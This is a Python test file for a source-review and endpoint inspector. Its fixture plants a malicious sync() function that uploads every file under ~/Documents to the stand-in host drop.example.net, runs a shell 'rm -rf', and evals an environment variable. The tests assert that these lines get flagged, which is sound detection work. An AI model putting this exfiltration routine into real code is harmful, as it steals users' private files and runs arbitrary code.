from __future__ import annotations

import random
from collections.abc import Callable
from pathlib import Path

from clearance.inspection.base import InspectionInput
from clearance.inspection.code import EndpointInspector, SourceReviewInspector

from .conftest import NullProgress, artifact, tarball, write_tree

V1 = {
    "agent/main.py": "import json\n\n\ndef scan(path):\n    return json.dumps({'path': path})\n",
    "agent/util.py": "def helper():\n    return 1\n",
    "README.md": "An agent. Updates from https://updates.example.com/\n",
}
V2_MAIN = (
    "import json\n"
    "import os\n"
    "import subprocess\n"
    "import urllib.request\n"
    "\n"
    "\n"
    "def scan(path):\n"
    "    return json.dumps({'path': path})\n"
    "\n"
    "\n"
    "def sync():\n"
    "    for root, _dirs, files in os.walk(os.path.expanduser('~/Documents')):\n"
    "        for name in files:\n"
    "            data = open(os.path.join(root, name), 'rb').read()\n"
    "            urllib.request.urlopen('https://drop.example.net/u', data)\n"
    "    subprocess.call('rm -rf /tmp/trace', shell=True)\n"
    "    eval(os.environ.get('HOOK', '0'))\n"
    "KEY = 'q8Zt1vN4xR7pL2mK9sD3fG6hJ0wE5yU8iO1aS4dF7gH2jK5lZ8xC3vB6nM9q'\n"
)


def _sources(tmp_path: Path) -> tuple[Path, Path]:
    v1 = tarball(write_tree(tmp_path / "t1", V1), tmp_path / "r1" / "agent-src.tar.gz")
    v2_files = dict(V1, **{"agent/main.py": V2_MAIN})
    del v2_files["agent/util.py"]
    tree2 = write_tree(tmp_path / "t2", v2_files)
    (tree2 / "agent" / "payload.bin").write_bytes(random.Random(7).randbytes(4096))
    v2 = tarball(tree2, tmp_path / "r2" / "agent-src.tar.gz")
    return v1, v2


def test_review_calls_out_what_matters(
    tmp_path: Path, make_input: Callable[..., InspectionInput]
) -> None:
    v1, v2 = _sources(tmp_path)
    inp = make_input((artifact(v2, "source"),), (artifact(v1, "source"),))
    result = SourceReviewInspector().inspect(inp, NullProgress())
    assert result.findings == ()
    [section] = result.report["sections"]
    summary = {row[0]: row for row in section["tables"][0]["rows"]}
    assert summary["agent/main.py"][1] == "modified"
    assert summary["agent/util.py"][1] == "removed"
    assert summary["agent/payload.bin"][1] == "added"
    assert "README.md" not in summary
    callouts = {(c["line"], c["category"]) for c in result.report["reviews"][0]["callouts"]}
    assert (15, "network") in callouts
    assert (12, "file-collection") in callouts
    assert (16, "process") in callouts
    assert (17, "dynamic-code") in callouts
    assert (18, "high-entropy-blob") in callouts
    assert (0, "high-entropy-blob") in callouts  # agent/payload.bin, random bytes
    assert not any(0 < line <= 2 for line, _ in callouts)  # unchanged lines are not called out
    bandit = {(b["line"], b["test_id"]) for b in result.report["reviews"][0]["bandit_new"]}
    assert (16, "B602") in bandit  # subprocess with shell=True
    assert (17, "B307") in bandit  # eval
    block = section["code"][0]
    assert block["caption"].startswith("agent/main.py")
    assert block["highlight_lines"]


def test_endpoint_in_source_names_file_and_line(
    tmp_path: Path, make_input: Callable[..., InspectionInput]
) -> None:
    v1, v2 = _sources(tmp_path)
    inp = make_input(
        (artifact(v2, "source"),), (artifact(v1, "source"),), declared=("updates.example.com",)
    )
    result = EndpointInspector().inspect(inp, NullProgress())
    [finding] = result.findings
    assert finding.rule_id == "binary.undeclared-endpoint"
    assert finding.evidence["host"] == "drop.example.net"
    assert finding.locations[0].uri == "agent/main.py"
    assert finding.locations[0].start_line == 15
    assert "agent/main.py:15" in finding.message
